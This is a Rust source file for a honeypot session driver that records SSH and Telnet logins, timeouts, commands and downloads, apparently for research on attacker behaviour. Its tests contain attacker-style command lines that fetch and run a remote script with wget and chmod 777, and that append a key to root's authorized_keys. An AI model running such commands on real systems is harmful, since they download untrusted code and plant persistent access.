//! The honeypot session state machine.
//!
//! [`SessionDriver`] models one client connection from TCP accept to
//! disconnect. It is driven by inputs (client banner, credential offers,
//! command lines, idle gaps) and internally enforces the paper's timeout and
//! auth-cap semantics. Both the live TCP front-end and the simulator drive
//! this same type, so the record schema and edge-case behaviour (e.g. which
//! end-reason a stalled NO_CMD session gets) are identical in both worlds.

use hf_geo::Ip4;
use hf_proto::creds::{AuthOutcome, Credentials};
use hf_proto::Protocol;
use hf_shell::{LineBuf, QuietExec, RemoteFetcher, SessionEvents, ShellSession};
use hf_simclock::SimInstant;

use crate::config::HoneypotConfig;
use crate::record::{EndReason, LoginAttempt, SessionRecord};

/// Result of offering credentials.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AuthResult {
    /// Login accepted: the client now has a shell.
    Accepted,
    /// Login rejected; the client may try again.
    Rejected,
    /// Login rejected and the attempt cap was reached: session over.
    Disconnected,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    /// Connected, not yet authenticated.
    PreAuth,
    /// Authenticated, shell active.
    Shell,
    /// Session finished.
    Done(EndReason),
}

/// One live session.
pub struct SessionDriver {
    config: HoneypotConfig,
    phase: Phase,
    clock: SimInstant,
    /// Idle seconds accumulated since the last client activity.
    idle_secs: u32,
    shell: Option<ShellSession>,
    record: SessionRecord,
    /// Fetcher handed to the shell at login time.
    fetcher: Option<Box<dyn RemoteFetcher>>,
}

impl SessionDriver {
    /// Accept a new connection.
    #[allow(clippy::too_many_arguments)]
    pub fn accept(
        config: HoneypotConfig,
        honeypot: u16,
        protocol: Protocol,
        client_ip: Ip4,
        client_port: u16,
        start: SimInstant,
        fetcher: Box<dyn RemoteFetcher>,
    ) -> Self {
        let record = SessionRecord {
            honeypot,
            protocol,
            client_ip,
            client_port,
            start,
            duration_secs: 0,
            ended_by: EndReason::ClientClose,
            ssh_client_version: None,
            logins: Vec::new(),
            commands: Vec::new(),
            uris: Vec::new(),
            file_hashes: Vec::new(),
            download_hashes: Vec::new(),
        };
        SessionDriver {
            config,
            phase: Phase::PreAuth,
            clock: start,
            idle_secs: 0,
            shell: None,
            record,
            fetcher: Some(fetcher),
        }
    }

    /// Record the client's SSH identification string (SSH sessions only).
    pub fn client_banner(&mut self, banner: &str) {
        if self.record.protocol == Protocol::Ssh {
            self.record.ssh_client_version = Some(banner.trim_end().to_string());
        }
    }

    /// Is the session over?
    pub fn finished(&self) -> bool {
        matches!(self.phase, Phase::Done(_))
    }

    /// Is the client authenticated?
    pub fn authenticated(&self) -> bool {
        matches!(self.phase, Phase::Shell)
    }

    /// Current session clock.
    pub fn now(&self) -> SimInstant {
        self.clock
    }

    /// Let simulated/real time pass with no client activity. May end the
    /// session by timeout. Returns `true` if the session is still alive.
    pub fn advance(&mut self, secs: u32) -> bool {
        if self.finished() {
            return false;
        }
        self.clock = self.clock.add_secs(secs as u64);
        self.idle_secs += secs;
        let limit = match self.phase {
            Phase::PreAuth => self.config.preauth_timeout_secs,
            Phase::Shell => self.config.idle_timeout_secs,
            Phase::Done(_) => return false,
        };
        if self.idle_secs >= limit {
            // Clamp the overshoot: the honeypot fires the timer at the limit.
            let overshoot = self.idle_secs - limit;
            self.clock = SimInstant(self.clock.0 - overshoot as u64);
            self.end(EndReason::Timeout);
            return false;
        }
        true
    }

    /// Offer credentials. Consumes `think_secs` of session time first.
    pub fn offer_credentials(&mut self, creds: Credentials, think_secs: u32) -> AuthResult {
        if self.finished() || !self.advance_activity(think_secs) {
            return AuthResult::Disconnected;
        }
        if self.phase != Phase::PreAuth {
            return AuthResult::Rejected; // already logged in; ignore
        }
        let accepted = self.config.auth.check(&creds) == AuthOutcome::Accepted;
        self.record.logins.push(LoginAttempt { creds, accepted });
        if accepted {
            // The shell itself is created lazily on the first command: a large
            // share of authenticated sessions never type anything (the paper's
            // NO_CMD shape), and they should not pay for VFS setup.
            self.phase = Phase::Shell;
            AuthResult::Accepted
        } else {
            let failures = self.record.logins.iter().filter(|l| !l.accepted).count() as u32;
            if failures >= self.config.auth.max_attempts {
                self.end(EndReason::AuthLimit);
                AuthResult::Disconnected
            } else {
                AuthResult::Rejected
            }
        }
    }

    /// Execute a command line in the shell. Returns terminal output, or
    /// `None` if the session is not in the shell phase. `think_secs` is the
    /// client's typing delay consumed before execution.
    pub fn run_command(&mut self, line: &str, think_secs: u32) -> Option<String> {
        if self.finished() || !self.advance_activity(think_secs) {
            return None;
        }
        if self.phase != Phase::Shell {
            return None;
        }
        let res = self.shell_mut().execute(line);
        if res.exited {
            self.harvest_shell();
            self.end(EndReason::ClientClose);
        }
        Some(res.rendered)
    }

    /// Like [`SessionDriver::run_command`] on a pre-parsed line and without
    /// materialising the terminal output — the simulator's path (nothing
    /// echoes the render, and each campaign variant is parsed once per day,
    /// not once per session).
    pub fn run_parsed_quiet(&mut self, buf: &LineBuf, think_secs: u32) -> Option<QuietExec> {
        if self.finished() || !self.advance_activity(think_secs) {
            return None;
        }
        if self.phase != Phase::Shell {
            return None;
        }
        let q = self.shell_mut().execute_parsed_quiet(buf);
        if q.exited {
            self.harvest_shell();
            self.end(EndReason::ClientClose);
        }
        Some(q)
    }

    /// The session shell, created on first use.
    fn shell_mut(&mut self) -> &mut ShellSession {
        if self.shell.is_none() {
            let fetcher = self.fetcher.take().expect("fetcher consumed once");
            self.shell = Some(ShellSession::new(self.config.profile.clone(), fetcher));
        }
        self.shell.as_mut().expect("just created")
    }

    /// Account for a completed external transfer taking `secs`. It resets
    /// the idle timer: the paper observes CMD+URI sessions crossing the
    /// 3-minute cap "due to the reset of the timeout period while waiting
    /// for the external resource".
    pub fn external_transfer(&mut self, secs: u32) {
        if self.finished() {
            return;
        }
        self.clock = self.clock.add_secs(secs as u64);
        self.idle_secs = 0;
    }

    /// Bulk-append pre-computed shell results to the session — the
    /// simulator's script-cache fast path. The honeypot semantics (must be
    /// authenticated, clock advances, idle timer resets) are preserved; only
    /// the per-command shell emulation is skipped. `exec_secs` is the total
    /// simulated time the script took.
    #[allow(clippy::too_many_arguments)]
    pub fn inject_scripted_results(
        &mut self,
        commands: &[hf_shell::CommandRecord],
        file_hashes: &[hf_hash::Digest],
        uris: &[String],
        download_hashes: &[hf_hash::Digest],
        exec_secs: u32,
    ) -> bool {
        if self.finished() || self.phase != Phase::Shell {
            return false;
        }
        if !self.advance_activity(exec_secs) {
            return false;
        }
        self.record.commands.extend_from_slice(commands);
        self.record.file_hashes.extend_from_slice(file_hashes);
        self.record.uris.extend_from_slice(uris);
        self.record
            .download_hashes
            .extend_from_slice(download_hashes);
        self.record.uris.sort();
        self.record.uris.dedup();
        true
    }

    /// Client closed the connection.
    pub fn client_close(&mut self) {
        if !self.finished() {
            self.harvest_shell();
            self.end(EndReason::ClientClose);
        }
    }

    /// Consume the driver, producing the final record (ends the session as a
    /// client close if still alive).
    pub fn into_record(mut self) -> SessionRecord {
        if !self.finished() {
            self.client_close();
        }
        self.record
    }

    /// Activity both advances the clock and resets the idle timer.
    fn advance_activity(&mut self, secs: u32) -> bool {
        let alive = self.advance(secs);
        if alive {
            self.idle_secs = 0;
        }
        alive
    }

    fn end(&mut self, reason: EndReason) {
        self.harvest_shell();
        self.record.ended_by = reason;
        self.record.duration_secs = self.clock.delta_secs(self.record.start).max(0) as u32;
        self.phase = Phase::Done(reason);
    }

    fn harvest_shell(&mut self) {
        if let Some(shell) = self.shell.as_mut() {
            let SessionEvents {
                commands,
                file_events,
                uris,
                downloads,
            } = shell.take_events();
            self.record.commands.extend(commands);
            self.record
                .file_hashes
                .extend(file_events.iter().map(|e| e.sha256));
            self.record.uris.extend(uris);
            self.record
                .download_hashes
                .extend(downloads.iter().map(|(_, h)| *h));
            self.record.uris.sort();
            self.record.uris.dedup();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_shell::{NullFetcher, SyntheticFetcher};

    fn driver() -> SessionDriver {
        SessionDriver::accept(
            HoneypotConfig::default(),
            0,
            Protocol::Ssh,
            Ip4::new(203, 0, 113, 9),
            50222,
            SimInstant::from_day_and_secs(5, 1000),
            Box::new(SyntheticFetcher),
        )
    }

    #[test]
    fn no_cred_scan_session() {
        let mut d = driver();
        d.client_banner("SSH-2.0-Zgrab");
        d.advance(3);
        d.client_close();
        let r = d.into_record();
        assert!(!r.attempted_login());
        assert_eq!(r.ended_by, EndReason::ClientClose);
        assert_eq!(r.duration_secs, 3);
        assert_eq!(r.ssh_client_version.as_deref(), Some("SSH-2.0-Zgrab"));
    }

    #[test]
    fn preauth_timeout_fires_at_60s() {
        let mut d = driver();
        assert!(d.advance(59));
        assert!(!d.advance(10));
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::Timeout);
        assert_eq!(r.duration_secs, 60, "timeout fires exactly at the limit");
    }

    #[test]
    fn three_failed_logins_disconnect() {
        let mut d = driver();
        assert_eq!(
            d.offer_credentials(Credentials::new("admin", "admin"), 2),
            AuthResult::Rejected
        );
        assert_eq!(
            d.offer_credentials(Credentials::new("root", "root"), 2),
            AuthResult::Rejected
        );
        assert_eq!(
            d.offer_credentials(Credentials::new("user", "1234"), 2),
            AuthResult::Disconnected
        );
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::AuthLimit);
        assert_eq!(r.logins.len(), 3);
        assert!(!r.login_succeeded());
    }

    #[test]
    fn successful_login_then_idle_timeout_at_180() {
        let mut d = driver();
        assert_eq!(
            d.offer_credentials(Credentials::new("root", "1234"), 2),
            AuthResult::Accepted
        );
        assert!(d.authenticated());
        assert!(d.advance(179));
        assert!(!d.advance(5));
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::Timeout);
        assert_eq!(r.duration_secs, 2 + 180);
        assert!(r.login_succeeded());
        assert!(r.commands.is_empty()); // the NO_CMD shape
    }

    #[test]
    fn command_session_records_everything() {
        let mut d = driver();
        d.client_banner("SSH-2.0-Go");
        d.offer_credentials(Credentials::new("root", "1234"), 1);
        let out = d.run_command("uname -a; free -m", 2).unwrap();
        assert!(out.contains("Linux"));
        d.run_command("echo x > /tmp/f", 1);
        d.client_close();
        let r = d.into_record();
        assert_eq!(r.commands.len(), 3);
        assert!(r.commands.iter().all(|c| c.known));
        assert_eq!(r.file_hashes.len(), 1);
        assert!(r.uris.is_empty());
        assert_eq!(r.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn parsed_quiet_matches_line_execution() {
        // The second script ends the session from inside the shell.
        for script in [
            "uname -a; echo k >> /root/.ssh/authorized_keys",
            "cd /tmp && wget http://198.51.100.1/x.sh; chmod 777 x.sh; ./x.sh; exit",
        ] {
            let mut a = driver();
            a.offer_credentials(Credentials::new("root", "1234"), 1);
            a.run_command(script, 2);
            a.client_close();

            let mut buf = LineBuf::new();
            buf.parse(script);
            let mut b = driver();
            b.offer_credentials(Credentials::new("root", "1234"), 1);
            b.run_parsed_quiet(&buf, 2).unwrap();
            b.client_close();

            assert_eq!(a.into_record(), b.into_record());
        }
    }

    #[test]
    fn uri_session_with_download_reset() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "1234"), 1);
        d.run_command("cd /tmp && wget http://198.51.100.1/x.sh", 5);
        // A slow transfer: 200s would exceed the idle limit, but the
        // transfer resets the timer.
        d.external_transfer(200);
        assert!(d.advance(100), "still alive after reset");
        d.run_command("sh x.sh", 2);
        d.client_close();
        let r = d.into_record();
        assert!(r.accessed_uri());
        assert_eq!(r.download_hashes.len(), 1);
        assert!(
            r.duration_secs > 180,
            "CMD+URI sessions may cross the timeout"
        );
    }

    #[test]
    fn activity_resets_idle_timer() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "pw"), 1);
        for _ in 0..5 {
            assert!(d.advance(100));
            assert!(d.run_command("uptime", 1).is_some());
        }
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::ClientClose);
        assert!(r.duration_secs >= 500);
    }

    #[test]
    fn exit_command_ends_session() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "pw"), 1);
        d.run_command("exit", 1);
        assert!(d.finished());
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn commands_after_end_rejected() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "pw"), 1);
        d.client_close();
        assert!(d.run_command("uname", 1).is_none());
    }

    #[test]
    fn telnet_session_has_no_ssh_version() {
        let mut d = SessionDriver::accept(
            HoneypotConfig::default(),
            1,
            Protocol::Telnet,
            Ip4::new(198, 51, 100, 20),
            1023,
            SimInstant::EPOCH,
            Box::new(NullFetcher),
        );
        d.client_banner("SSH-2.0-ignored"); // must be ignored on telnet
        d.offer_credentials(Credentials::new("root", "1234"), 1);
        d.client_close();
        let r = d.into_record();
        assert_eq!(r.ssh_client_version, None);
        assert_eq!(r.protocol, Protocol::Telnet);
    }

    #[test]
    fn failed_fetch_still_records_uri() {
        let mut d = SessionDriver::accept(
            HoneypotConfig::default(),
            0,
            Protocol::Ssh,
            Ip4::new(203, 0, 113, 1),
            1,
            SimInstant::EPOCH,
            Box::new(NullFetcher),
        );
        d.offer_credentials(Credentials::new("root", "x"), 1);
        d.run_command("wget http://unreachable/x", 1);
        d.client_close();
        let r = d.into_record();
        assert!(r.accessed_uri());
        assert!(r.download_hashes.is_empty());
        assert!(r.file_hashes.is_empty());
    }
}
